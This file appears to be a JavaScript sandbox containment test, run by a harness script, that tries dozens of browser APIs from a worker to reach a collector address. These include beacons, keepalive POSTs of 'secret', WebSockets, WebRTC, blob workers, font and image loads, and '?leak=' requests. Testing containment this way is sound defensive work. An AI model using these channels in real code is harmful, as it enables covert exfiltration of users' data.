/** Tries every API of a worker that could send something away. Run by hostile_script.py. */
const load = (worker) =>
  new Promise((done, fail) => {
    worker.onmessage = worker.port ? undefined : (event) => done(event.data);
    if (worker.port) worker.port.onmessage = (event) => done(event.data);
    worker.onerror = () => fail(new Error('error event'));
  });
const opened = (source) =>
  new Promise((done, fail) => {
    source.onopen = () => done('opened');
    source.onerror = () => fail(new Error('error event'));
  });
const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const fetching = (url) =>
  `fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).then(() => postMessage('answered'), (error) => postMessage(String(error)));`;
const importing = (url) =>
  `try { importScripts(${JSON.stringify(url)}); postMessage('answered'); } catch (error) { postMessage(String(error)); }`;

const ways = {
  fetch: (url) => fetch(url),
  'fetch no-cors': (url) => fetch(url, { mode: 'no-cors' }),
  'fetch keepalive': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  'fetch of the own site': (url, site) => fetch(site + '?leak=fetch', { mode: 'no-cors' }),
  fetchLater: (url) => {
    const later = fetchLater(url, { activateAfter: 0 });
    return later.activated;
  },
  'Request with credentials': (url) =>
    fetch(new Request(url, { mode: 'no-cors', credentials: 'include', priority: 'high' })),
  HEAD: (url) => fetch(url, { mode: 'no-cors', method: 'HEAD' }),
  XMLHttpRequest: (url) =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.onload = () => done('loaded');
      request.onerror = () => fail(new Error('error event'));
      request.send('secret');
    }),
  'XMLHttpRequest synchronous': (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.status;
  },
  WebSocket: (url) => opened(new WebSocket(url.replace('http', 'ws'))),
  WebSocketStream: (url) => new WebSocketStream(url.replace('http', 'ws')).opened,
  EventSource: (url) => opened(new EventSource(url)),
  WebTransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
  RTCPeerConnection: async (url, site, udp) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: udp }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return new Promise((done) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done('gathered');
    });
  },
  TCPSocket: (url) => new TCPSocket('127.0.0.1', Number(new URL(url).port)).opened,
  UDPSocket: (url, site, udp) =>
    new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: Number(udp.split(':')[2]) }).opened,
  sendBeacon: (url) => {
    if (!navigator.sendBeacon(url, 'secret')) throw new Error('false');
  },
  importScripts: (url) => importScripts(url + '.js'),
  import: (url) => import(url + '.js'),
  'import through a blob': (url) => import(blob(`import ${JSON.stringify(url + '.js')};`)),
  'import of the own site': (url, site) => import(site + 'sw.js?leak=import'),
  'import of JSON': (url) => import(blob(`import x from ${JSON.stringify(url + '.json')} with {type: 'json'};`)),
  Worker: (url) => load(new Worker(url + '.js')),
  'Worker of the own site': (url, site) => load(new Worker(site + 'sw.js?leak=worker')),
  'Worker from a blob that fetches': (url) => load(new Worker(blob(fetching(url)))),
  'Worker from a blob that imports': (url) => load(new Worker(blob(importing(url + '.js')))),
  'module Worker from a blob that imports': (url) =>
    load(new Worker(blob(`import ${JSON.stringify(url + '.js')}; postMessage('answered');`), { type: 'module' })),
  'Worker from data that fetches': (url) =>
    load(new Worker('data:text/javascript,' + encodeURIComponent(fetching(url)))),
  'Worker in a Worker that fetches': (url) =>
    load(
      new Worker(
        blob(
          `const inner = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(url))}]))); inner.onmessage = (event) => postMessage(event.data); inner.onerror = () => postMessage('Error');`,
        ),
      ),
    ),
  SharedWorker: (url) => load(new SharedWorker(url + '.js')),
  'SharedWorker from a blob that fetches': (url) =>
    load(
      new SharedWorker(
        blob(`onconnect = (event) => { const postMessage = (x) => event.ports[0].postMessage(x); ${fetching(url)} }`),
      ),
    ),
  'service worker': (url, site) => navigator.serviceWorker.register(site + 'sw.js?leak=register'),
  FontFace: (url) => new FontFace('secret', `url(${url}.woff)`).load(),
  'canvas filter': (url) => {
    const pen = new OffscreenCanvas(4, 4).getContext('2d');
    pen.filter = `url(${url}.svg#f)`;
    pen.fillRect(0, 0, 4, 4);
    throw new Error('drawn; only the collector knows');
  },
  'createImageBitmap of a fetched image': async (url) => createImageBitmap(await (await fetch(url + '.png')).blob()),
  'ImageDecoder of a fetched image': async (url) =>
    new ImageDecoder({ type: 'image/png', data: (await fetch(url + '.png')).body }).tracks.ready,
  compileStreaming: (url) => WebAssembly.compileStreaming(fetch(url + '.wasm')),
  instantiateStreaming: (url) => WebAssembly.instantiateStreaming(fetch(url + '.wasm')),
  'Cache.add': async (url) => (await caches.open('stolen')).add(url),
  'Cache.addAll of no-cors requests': async (url) =>
    (await caches.open('stolen')).addAll([new Request(url, { mode: 'no-cors' })]),
  'Notification with an icon': (url) => {
    const notification = new Notification('secret', { icon: url + '.png', image: url + '.png' });
    return new Promise((done, fail) => {
      notification.onshow = done;
      notification.onerror = () => fail(new Error('error event'));
    });
  },
  'change of location': (url) => {
    'use strict';
    self.location = url;
    throw new Error('no error; only the collector knows');
  },
  'change of location.href': (url) => {
    'use strict';
    self.location.href = url;
    throw new Error('no error; only the collector knows');
  },
  open: (url) => {
    if (!self.open(url)) throw new Error('null');
  },
  'report of a violation': (url) => {
    const report = new ReportingObserver(() => {}, { types: ['csp-violation'], buffered: true });
    report.observe();
    return fetch(url, { mode: 'no-cors', referrer: url, referrerPolicy: 'unsafe-url' });
  },
};

self.tryWays = async (address, site, udp) => {
  const outcomes = {};
  const limited = (promise) =>
    Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail(new Error('no answer')), 2500))]);
  await Promise.all(
    Object.entries(ways).map(async ([name, way]) => {
      const url = `${address}/${name.replace(/\W+/g, '-')}`;
      try {
        const answer = String(await limited((async () => way(url, site, udp))()));
        if (/^(\w*Error|no )/.test(answer)) throw new Error(answer);
        outcomes[name] = `got through: ${answer}`;
      } catch (error) {
        outcomes[name] = `refused: ${error && error.name}: ${(error && error.message) || error}`;
      }
    }),
  );
  return JSON.stringify(outcomes);
};
